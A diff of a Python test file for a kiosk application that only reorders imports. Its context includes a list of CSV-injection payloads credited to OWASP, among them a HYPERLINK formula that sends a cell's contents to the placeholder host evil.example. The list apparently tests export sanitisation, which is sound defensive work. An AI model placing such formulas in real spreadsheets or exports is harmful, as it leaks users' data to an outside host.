@@ -11,12 +11,12 @@ from datetime import timezone
 from pathlib import Path
 
 import pytest
-
 from conftest import make_settings, run_kiosk
+from ui_home import NOW, PIN, fixed_clock, sign_in, wait_until
+
 from db.models import AccessEvent
 from kiosk.admin.auth import AdminAuth
 from kiosk.context import KioskContext
-from ui_home import NOW, PIN, fixed_clock, sign_in, wait_until
 
 # OWASP's CSV-injection list: cells starting with these are run by spreadsheets.
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
